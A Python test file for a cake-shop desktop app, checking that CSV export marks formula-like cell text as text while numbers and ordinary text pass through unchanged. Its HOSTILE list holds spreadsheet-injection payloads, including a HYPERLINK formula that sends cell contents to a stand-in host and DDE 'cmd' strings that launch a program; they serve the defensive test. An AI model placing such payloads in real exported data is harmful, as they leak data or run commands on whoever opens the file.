"""CSV cells: text a spreadsheet would run as a formula is marked as text, numbers stay."""

from __future__ import annotations

import io

from hypothesis import given
from hypothesis import strategies as st

from cakeshop_desktop.core.rules.csv_cells import csv_writer, spreadsheet_cell, typed_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Медовик")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def test_text_that_would_run_as_a_formula_is_marked_as_text():
    for text in HOSTILE:
        assert spreadsheet_cell(text) == "'" + text, text


def test_numbers_stay_numbers():
    for number in ("-12.50", "-12,50", "+5", "0", "1250.50", "-3"):
        assert spreadsheet_cell(number) == number


def test_everyday_text_is_left_alone():
    for text in ("Медовик", "4600001", "2026-12-01 12:00:00", "'quoted", "", "a=b"):
        assert spreadsheet_cell(text) == text
    assert spreadsheet_cell(None) == ""


def test_the_writer_marks_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";")
    writer.writerow(["=1+1", "-12,50", "@me"])
    writer.writerows([["+7 900 000-00-01", "Торт"]])
    assert out.getvalue().splitlines() == ["'=1+1;-12,50;'@me", "'+7 900 000-00-01;Торт"]


@given(st.text())
def test_an_exported_cell_imports_as_it_was_typed(text):
    assert typed_cell(spreadsheet_cell(text)) == text
